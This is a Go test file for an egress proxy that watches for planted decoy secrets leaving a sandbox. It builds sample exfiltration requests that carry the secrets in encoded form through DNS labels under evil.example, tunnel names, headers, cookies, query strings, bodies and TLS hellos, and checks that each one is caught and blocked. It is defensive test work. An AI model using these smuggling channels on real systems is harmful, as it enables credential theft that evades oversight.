package egress

import (
	"bufio"
	"encoding/base32"
	"encoding/base64"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strings"
	"sync"
	"testing"
)

const (
	canary  = "3f9c0a7be2d14c58a6b9013d7e5f8842aa31bb0c9d47e6f0"
	planted = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYq9Zk2Hv0Lm"
)

var decoys = []Decoy{{"the placeholder key", canary}, {"~/.aws/credentials", planted}}

func backwards(s string) string {
	b := []byte(s)
	slices.Reverse(b)
	return string(b)
}

// carriers are ways in which somebody takes a value away.
func carriers(v string) map[string]string {
	out := map[string]string{
		"plain": v, "backwards": backwards(v), "hex": hex.EncodeToString([]byte(v)), "HEX": strings.ToUpper(hex.EncodeToString([]byte(v))),
	}
	for i, before := range []string{"", "x", "xy", "xyz", "wxyz"} {
		s := []byte(before + v + "end")
		out[fmt.Sprint("base64 ", i)] = base64.StdEncoding.EncodeToString(s)
		out[fmt.Sprint("base64url ", i)] = base64.RawURLEncoding.EncodeToString(s)
		out[fmt.Sprint("base32 ", i)] = base32.StdEncoding.EncodeToString(s)
		out[fmt.Sprint("base32 low ", i)] = strings.ToLower(base32.StdEncoding.EncodeToString(s))
	}
	return out
}

func TestDecoysAreFoundInEveryFormAtEveryPlace(t *testing.T) {
	l := newLookout(decoys)
	for _, d := range decoys {
		for form, text := range carriers(d.Value) {
			for before := range 40 {
				p := strings.Repeat("a", before) + text + strings.Repeat("b", before%7)
				if got := l.find([]byte(p)); got != d.Name {
					t.Errorf("%s as %s behind %d bytes: %q", d.Name, form, before, got)
				}
			}
		}
	}
	rng := rand.New(rand.NewPCG(1, 2))
	noise := make([]byte, 1<<20)
	for i := range noise {
		noise[i] = "abcdef0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ/+-_"[rng.IntN(46)]
	}
	if got := l.find(noise); got != "" {
		t.Errorf("noise holds %q", got)
	}
	for _, cut := range []string{canary[:len(canary)-1], canary[1:], "", "a"} {
		if got := l.find([]byte(cut)); got != "" {
			t.Errorf("a part counts as %q", got)
		}
	}
	if newLookout(nil) != nil || newLookout([]Decoy{{"short", "secret"}}) != nil {
		t.Error("nothing to look for is looked for")
	}
	var none *lookout
	if none.find([]byte(canary)) != "" || none.inHost(canary) != "" || none.inHeader(http.Header{"A": {canary}}) != "" || none.inText(canary) != "" {
		t.Error("no lookout finds something")
	}
}

func TestDecoysAreFoundInHostNamesHoweverTheyAreCut(t *testing.T) {
	l := newLookout(decoys)
	for form, text := range carriers(canary) {
		text = strings.TrimRight(text, "=")
		for _, n := range []int{7, 30, 63} {
			host := ""
			for i := 0; i < len(text); i += n {
				host += text[i:min(len(text), i+n)] + "."
			}
			if got := l.inHost(strings.ToUpper(host) + "evil.example"); got == "" {
				t.Errorf("%s in labels of %d is not seen", form, n)
			}
		}
	}
	for _, host := range []string{"registry.npmjs.org", "a-very-long-name-of-a-host.example.com", "xn--bcher-kva.example"} {
		if got := l.inHost(host); got != "" {
			t.Errorf("%s holds %q", host, got)
		}
	}
}

func TestABodyIsCutBeforeADecoyIsWhole(t *testing.T) {
	l := newLookout(decoys)
	text := strings.Repeat("x", 100) + canary + strings.Repeat("y", 100)
	for n := 1; n <= len(text); n++ {
		found := ""
		r := l.watch(io.NopCloser(&chopped{text, n}), func(name string) { found = name })
		got, err := io.ReadAll(r)
		if found != "the placeholder key" || !errors.Is(err, errDecoy) || strings.Contains(string(got), canary) {
			t.Fatalf("in pieces of %d: found %q, %v, %d bytes passed", n, found, err, len(got))
		}
		if more, err := r.Read(make([]byte, 10)); more != 0 || !errors.Is(err, errDecoy) {
			t.Fatal("it goes on")
		}
	}
	clean := strings.Repeat("clean text ", 1000)
	for _, n := range []int{1, 3, 1000} {
		got, err := io.ReadAll(l.watch(io.NopCloser(&chopped{clean, n}), func(string) { t.Error("found in clean text") }))
		if err != nil || string(got) != clean {
			t.Errorf("clean text in pieces of %d: %d bytes, %v", n, len(got), err)
		}
	}
}

// chopped gives n bytes at a time.
type chopped struct {
	s string
	n int
}

func (c *chopped) Read(p []byte) (int, error) {
	if c.s == "" {
		return 0, io.EOF
	}
	n := copy(p[:min(len(p), c.n)], c.s)
	c.s = c.s[n:]
	return n, nil
}

// trips sends something and expects the bottle's way out to be shut by it.
func TestADecoySeenAnywhereShutsTheWayOut(t *testing.T) {
	b64 := base64.RawURLEncoding.EncodeToString([]byte("k=" + canary))
	ways := map[string]func(port uint16) string{
		"the name of a tunnel": func(uint16) string { return "CONNECT " + canary + ".evil.example:443 HTTP/1.1\r\nHost: x\r\n\r\n" },
		"labels of a tunnel": func(uint16) string {
			return "CONNECT " + b64[:20] + "." + b64[20:] + ".origin.example:443 HTTP/1.1\r\nHost: x\r\n\r\n"
		},
		"a tunnel's header": func(p uint16) string {
			return fmt.Sprintf("CONNECT origin.example:%d HTTP/1.1\r\nHost: x\r\nUser-Agent: %s\r\n\r\n", p, canary)
		},
		"the query of a request": func(p uint16) string {
			return fmt.Sprintf("GET http://origin.example:%d/?q=%s HTTP/1.1\r\nHost: x\r\n\r\n", p, canary)
		},
		"the path, escaped": func(p uint16) string {
			return fmt.Sprintf("GET http://origin.example:%d/%s HTTP/1.1\r\nHost: x\r\n\r\n", p, "%"+strings.Join(strings.Split(fmt.Sprintf("% x", canary), " "), "%"))
		},
		"the query, escaped, behind an escape that is none": func(p uint16) string {
			return fmt.Sprintf("GET http://origin.example:%d/?%%zz&q=%s HTTP/1.1\r\nHost: x\r\n\r\n", p, "%"+strings.Join(strings.Split(fmt.Sprintf("% x", canary), " "), "%"))
		},
		"a decoy's secret, quoted": func(p uint16) string {
			return fmt.Sprintf("GET http://origin.example:%d/?q=%s HTTP/1.1\r\nHost: x\r\n\r\n", p, url.QueryEscape(planted))
		},
		"a header": func(p uint16) string {
			return fmt.Sprintf("GET http://origin.example:%d/ HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer sk-ant-oat01-bottle-%s\r\n\r\n", p, canary)
		},
		"a cookie in base64": func(p uint16) string {
			return fmt.Sprintf("GET http://origin.example:%d/ HTTP/1.1\r\nHost: x\r\nCookie: s=%s\r\n\r\n", p, b64)
		},
		"a header's name": func(p uint16) string {
			return fmt.Sprintf("GET http://origin.example:%d/ HTTP/1.1\r\nHost: x\r\nX-%s: 1\r\n\r\n", p, canary)
		},
		"a cookie, escaped": func(p uint16) string {
			return fmt.Sprintf("GET http://origin.example:%d/ HTTP/1.1\r\nHost: x\r\nCookie: s=%s\r\n\r\n", p, url.QueryEscape(planted))
		},
		"the name of a host": func(uint16) string { return "GET http://" + canary + ".evil.example/ HTTP/1.1\r\nHost: x\r\n\r\n" },
		"a body": func(p uint16) string {
			return fmt.Sprintf("POST http://origin.example:%d/ HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n%s%s", p, 10+len(planted), strings.Repeat("x", 10), planted)
		},
		"a body in chunks": func(p uint16) string {
			return fmt.Sprintf("POST http://origin.example:%d/ HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n%x\r\n%s\r\n%x\r\n%s\r\n0\r\n\r\n", p, 20, canary[:20], len(canary)-20, canary[20:])
		},
		"a model's name": func(uint16) string {
			return "GET /v1/models/" + canary + " HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer " + placeholder + "\r\n\r\n"
		},
		"another header to the API": func(uint16) string { return message(placeholder, "X-App: "+canary+"\r\n") },
	}
	for name, raw := range ways {
		t.Run(name, func(t *testing.T) {
			r, u := apiRig(t, Options{}, &Credential{APIKey, theKey, placeholder})
			var mu sync.Mutex
			leaked := ""
			origin := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
				b, _ := io.ReadAll(req.Body)
				mu.Lock()
				defer mu.Unlock()
				leaked += fmt.Sprint(req.RequestURI, req.Header, string(b))
			}))
			defer origin.Close()
			port := r.origin("origin.example", origin.Listener.Addr().String())
			policy := u.policy()
			policy.Hosts = []Rule{{Host: "origin.example", Port: port}, {Host: "*.origin.example"}}
			r.open(policy)
			r.SetDecoys(decoys)
			// Something else that is open falls with it.
			other := r.dial()
			fmt.Fprintf(other, "CONNECT origin.example:%d HTTP/1.1\r\nHost: x\r\n\r\n", port)
			br := bufio.NewReader(other)
			if resp, err := http.ReadResponse(br, &http.Request{Method: http.MethodConnect}); err != nil || resp.StatusCode != 200 {
				t.Fatal(resp, err)
			}
			c := r.dial()
			io.WriteString(c, raw(port))
			answered(c)
			d := r.line(func(d Decision) bool { return d.Kind == Canary })
			if d.Rule == "" || d.Host == "" && d.Via != "api" {
				t.Errorf("the line is %+v", d)
			}
			if _, err := br.ReadByte(); err == nil {
				t.Error("the open tunnel goes on")
			}
			if resp, text := r.send(message(placeholder, "")); resp.StatusCode != 403 || !strings.Contains(text, "decoy") {
				t.Errorf("the API afterwards: %d %s", resp.StatusCode, text)
			}
			if r.Stats().Open {
				t.Error("it is open")
			}
			r.Open()
			if resp, _ := r.send(fmt.Sprintf("GET http://origin.example:%d/ HTTP/1.1\r\nHost: x\r\n\r\n", port)); resp.StatusCode != 403 {
				t.Errorf("opened by a policy change: %d", resp.StatusCode)
			}
			if st := r.Stats(); st.Tripped == nil || st.Tripped.Decoy != d.Rule || st.Open {
				t.Errorf("the counters say %+v", st)
			}
			mu.Lock()
			if strings.Contains(leaked, canary) || strings.Contains(leaked, planted) || strings.Contains(leaked, b64) || u.count() != 0 {
				t.Errorf("%d requests reached the API, the origin got %q", u.count(), leaked)
			}
			mu.Unlock()
			r.Reopen()
			if resp, _ := r.send(message(placeholder, "")); resp.StatusCode != 200 {
				t.Errorf("after a person has opened it again: %d", resp.StatusCode)
			}
		})
	}
}

// A tunnel that was let through may still carry a decoy in the name that its
// TLS hello asks for.
func TestADecoyInATLSHelloShutsTheWayOut(t *testing.T) {
	r := newRig(t, Options{})
	ln, err := net.Listen("tcp", "127.0.0.1:443")
	if err != nil {
		t.Fatalf("port 443 of loopback is needed: run the tests as root: %v", err)
	}
	defer ln.Close()
	r.origin("allowed.example", "127.0.0.1:443")
	r.open(Policy{Hosts: []Rule{{Host: "allowed.example"}}})
	r.SetDecoys(decoys)
	c, br, resp := r.tunnel("allowed.example:443")
	if resp.StatusCode != http.StatusOK {
		t.Fatal(resp.StatusCode)
	}
	c.Write(realHello(t, canary+".allowed.example"))
	io.ReadAll(br)
	if trip := r.Tripped(); trip == nil || trip.Host != "allowed.example" {
		t.Errorf("the trip is %+v", trip)
	}
	if d := r.line(func(d Decision) bool { return d.Kind == Canary }); d.Host != "allowed.example" || d.Rule != "the placeholder key" {
		t.Errorf("the line is %+v", d)
	}
}

func TestThePlaceholderAtItsOwnPlaceIsNoAlarm(t *testing.T) {
	r, u := apiRig(t, Options{}, &Credential{APIKey, theKey, "sk-ant-oat01-bottle-" + canary})
	r.SetDecoys(decoys)
	own := "sk-ant-oat01-bottle-" + canary
	if resp, text := r.send(message(own, "")); resp.StatusCode != 200 {
		t.Errorf("%d %s", resp.StatusCode, text)
	}
	// A key in another place for keys is refused, and that is all.
	if resp, _ := r.send("GET /v1/models HTTP/1.1\r\nHost: x\r\nX-Api-Key: " + own + "\r\n\r\n"); resp.StatusCode != 403 {
		t.Errorf("as a key: %d", resp.StatusCode)
	}
	// The session itself goes to Anthropic: an agent that printed its own
	// environment has the placeholder in it.
	body := `{"messages":[{"role":"user","content":"` + own + " " + planted + `"}]}`
	resp, text := r.send(fmt.Sprintf("POST /v1/messages HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\nContent-Length: %d\r\n\r\n%s", own, len(body), body))
	if resp.StatusCode != 200 || r.Tripped() != nil || u.count() != 2 {
		t.Errorf("in a message: %d %s, tripped %v", resp.StatusCode, text, r.Tripped())
	}
}

func FuzzLookout(f *testing.F) {
	f.Add("a", canary, 3)
	f.Add("", "", 0)
	l := newLookout(decoys)
	f.Fuzz(func(t *testing.T, before, after string, n int) {
		text := before + planted + after
		if l.find([]byte(text)) == "" {
			t.Fatal("not found")
		}
		r := l.watch(io.NopCloser(&chopped{text, 1 + max(0, n)%200}), func(string) {})
		got, err := io.ReadAll(r)
		if !errors.Is(err, errDecoy) || strings.Contains(string(got), planted) {
			t.Fatalf("%v, %d bytes", err, len(got))
		}
		_ = l.inHost(text)
		_ = l.inText(before)
	})
}
